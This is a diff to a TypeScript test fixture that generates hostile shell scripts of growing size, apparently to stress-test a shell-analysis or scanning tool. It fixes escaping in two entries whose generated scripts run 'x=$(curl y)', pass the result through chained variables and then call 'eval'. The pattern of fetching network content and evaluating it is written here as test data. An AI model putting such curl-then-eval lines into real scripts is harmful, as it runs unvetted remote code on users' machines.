@@ -256,12 +256,12 @@ export const HOSTILE_TEXTS: readonly HostileText[] = [
   {
     name: "hand-overs in values on every line",
     path: "p/s/run.sh",
-    make: (size) => `x=$(curl y)\n${repeated('y="set -e; $x"; z="$y ${x%.sh} $x"\n', size)}eval "$z"\n`,
+    make: (size) => `x=$(curl y)\n${repeated(`y="set -e; $x"; z="$y \${x%.sh} $x"\n`, size)}eval "$z"\n`,
   },
   {
     name: "a value naming many variables",
     path: "p/s/run.sh",
-    make: (size) => `x=$(curl y)\ny="${repeated("$x ${x} $( $a", size)}"\neval "$y"\n`,
+    make: (size) => `x=$(curl y)\ny="${repeated(`$x \${x} $( $a`, size)}"\neval "$y"\n`,
   },
   {
     name: "assignments inside one value",
